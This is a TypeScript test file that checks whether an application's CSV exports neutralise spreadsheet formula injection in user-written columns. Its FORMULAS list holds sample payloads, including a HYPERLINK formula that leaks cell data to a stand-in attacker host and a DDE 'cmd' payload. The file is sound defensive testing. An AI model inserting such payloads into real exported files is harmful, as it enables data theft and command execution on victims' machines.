import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { ROOT, sources } from '../../../../test/support/sources.js';
import { REPORT_NAMES, REPORT_TEXTS } from '#contracts';
import { formatted } from '../cli/format.js';
import { journalCsv } from '../exchange/journal.js';
import { harmless, LINE_COLUMNS } from '../lines/line-columns.js';
import { REFERRAL_COLUMNS } from '../referrals/referral-columns.js';

/** What spreadsheets run: as it is typed, behind a blank of theirs, and as a link that tells where it was opened. */
const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0"]; // prettier-ignore

/** Everything that writes CSV, and what shows that it writes no formula. A new one fails the test until it is here. */
const WRITERS: Readonly<Record<string, string>> = {
  'apps/api/src/cli/format.ts': 'apps/api/src/export/formulas.test.ts',
  'apps/api/src/exchange/journal.ts': 'apps/api/src/exchange/journal.test.ts',
  // the person's own file, row for row, to be mended and sent again: changed, it would be another one
  'apps/api/src/exchange/staging/refused-file.ts': 'apps/api/src/exchange/keep-going.db.test.ts',
  'apps/api/src/lines/line-export.ts': 'apps/api/src/lines/review.db.test.ts',
  'apps/api/src/performance/provider-report-export.ts': 'apps/api/src/resolvers/performance.db.test.ts',
  'apps/api/src/referrals/referral-export.ts': 'apps/api/src/export/formulas.test.ts',
  // the person's own rows again, as above
  'apps/web/src/bulk/bulk-file.ts': 'apps/web/src/bulk/bulk-file.test.ts',
  'apps/web/src/view/csv.ts': 'apps/web/src/view/csv.test.ts',
};

/** Columns of PostgreSQL's own making or of a fixed list of words, times and numbers: nobody writes them. */
const OURS = {
  lines: ['line', 'period', 'number', 'statement_kind', 'basis', 'issued_at', 'position', 'kind', 'amount_pence', 'corrects_line', 'state', 'disputed', 'overdue', 'due_on', 'queried_by', 'claimed_pence', 'allowed_pence', 'recovered_pence', 'waived_pence', 'reinvested_pence', 'undecided_pence', 'figure'], // prettier-ignore
  referrals: ['reference', 'category', 'complexity', 'state', 'end_state', 'withdrawal_class', 'made_at', 'sent_at', 'received_at', 'accepted_at', 'assessment_at', 'plan_submitted_at', 'plan_approved_at', 'first_session_at', 'last_session_at', 'end_requested_at', 'report_at', 'concluded_at', 'end_reason', 'sessions_planned', 'sessions_attended', 'outcome_score', 'clock', 'due_on'], // prettier-ignore
};
const unguarded = (columns: Readonly<Record<string, string>>): string[] =>
  Object.keys(columns).filter(
    (name) => !columns[name]!.startsWith(harmless('?').slice(0, 'case when ascii('.length)),
  );

describe('a file for a spreadsheet', () => {
  it('is written by these alone, and each is tried', () => {
    const writing = sources('apps', 'libs').filter((file) =>
      /csv-stringify|to stdout with \(format csv/.test(readFileSync(path.join(ROOT, file), 'utf8')),
    );
    const made = writing.filter((file) => !file.startsWith('apps/api/src/demo/')); // the demonstration's own files
    expect([...new Set(made)].sort()).toEqual(Object.keys(WRITERS).sort());
    for (const test of Object.values(WRITERS))
      expect([test, readFileSync(path.join(ROOT, test), 'utf8')]).toEqual([test, expect.stringMatching(/formula|=1\+1/)]); // prettier-ignore
  });

  it.each(FORMULAS)('of a command holds %j as a text, whatever the column', (text) => {
    const [row] = parse<Record<string, string>>(formatted('csv', ['a', 'b'], [{ a: text, b: '-12.5' }]), { columns: true }); // prettier-ignore
    expect(row).toEqual({ a: `'${text}`, b: '-12.5' });
  });

  it.each(FORMULAS)('of a ledger holds %j as a text, in each column that somebody writes', (text) => {
    const entry = { id: '1', effectiveOn: '2020-01-01', recordedAt: '2020-01-01T00:00:00Z', contract: text, supplier: text, kind: 'on_account', person: text, reason: text, statement: text, payment: text, postings: [{ account: 'payable', amountPence: 5n }] }; // prettier-ignore
    const [row] = parse<Record<string, string>>(journalCsv([entry as never]), { columns: true });
    for (const column of ['contract', 'supplier', 'person', 'reason', 'statement', 'payment'])
      expect([column, row![column]]).toEqual([column, `'${text}`]);
  });

  it('of lines and of referrals guards every column but those that nobody writes', () => {
    expect(unguarded(LINE_COLUMNS)).toEqual(OURS.lines);
    expect(unguarded(REFERRAL_COLUMNS)).toEqual(OURS.referrals);
  });

  it('of the report of providers guards what comes from people', () => {
    const unlike = REPORT_NAMES.filter((name) => /reason|caseworker|organisation|contract_ref/.test(name) && !REPORT_TEXTS.includes(name)); // prettier-ignore
    expect(unlike.filter((name) => !/_at$|_date$|_on$/.test(name))).toEqual([]);
  });
});
